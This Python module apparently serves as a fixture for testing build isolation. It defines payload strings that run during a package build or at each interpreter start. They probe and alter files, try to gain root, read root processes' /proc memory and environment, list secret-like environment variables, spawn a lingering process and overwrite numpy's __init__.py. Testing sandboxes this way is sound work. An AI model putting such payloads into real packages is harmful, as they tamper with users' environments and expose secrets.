"""A package that attacks while it is built, and whenever a Python starts where it is installed."""

from __future__ import annotations

from collections.abc import Iterable

_ATTACKS = """
import json, os, subprocess, sys
got = []
def attempt(name, act):
    try:
        got.append([name, repr(act())[:100]])
    except Exception:
        pass
def read(path):
    return os.listdir(path) if os.path.isdir(path) else open(path).read()
def write(path):
    open(os.path.join(path, "new") if os.path.isdir(path) else path, "a").close()
for path in READ:
    attempt(f"reads {path}", lambda: read(path))
for path in WRITTEN:
    attempt(f"writes to {path}", lambda: write(path))
    attempt(f"changes {path}", lambda: os.chmod(path, 0o777))
    attempt(f"removes {path}", lambda: os.rename(path, path + ".old"))
attempt("becomes root", lambda: os.setuid(0))
attempt("joins root's group", lambda: os.setgid(0))
for process in filter(str.isdecimal, os.listdir("/proc")):
    try:
        if os.stat(f"/proc/{process}").st_uid != 0:
            continue
    except OSError:
        continue
    for name in ("environ", "mem", "fd", "cwd"):
        attempt(f"opens {name} of {process}", lambda: read(f"/proc/{process}/{name}"))
    attempt(f"ends {process}", lambda: os.kill(int(process), 0))
got += [["has a secret", name] for name in os.environ if name.startswith(("INPUT_", "PLATFORM_"))]
with open(f"/tmp/{MARK}-{os.getuid()}", "w") as file:
    file.write("left behind")
subprocess.Popen(
    [sys.executable, "-I", "-S", "-c", "import time; time.sleep(600)", MARK],
    start_new_session=True,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
"""
# It tells who ran it, and changes the files of another package, which are root's.
AT_EACH_START = """
import glob, os
place = os.path.dirname(__file__)
try:
    with open(os.path.join(place, "started-by.txt"), "a") as file:
        file.write(f"{os.getuid()}\\n")
except OSError:
    pass
for path in glob.glob(os.path.join(place, "numpy", "__init__.py")):
    try:
        with open(path, "a") as file:
            file.write("raise RuntimeError('changed in all environments')")
    except OSError:
        pass
"""


def attacks(mark: str, *, read: Iterable[str], written: Iterable[str]) -> str:
    """Return code that leaves in `got` what it got.

    It tries to read and to change these paths, too. Processes and files that it leaves behind have
    the mark.
    """
    return f"MARK, READ, WRITTEN = {mark!r}, {list(read)!r}, {list(written)!r}\n{_ATTACKS}"
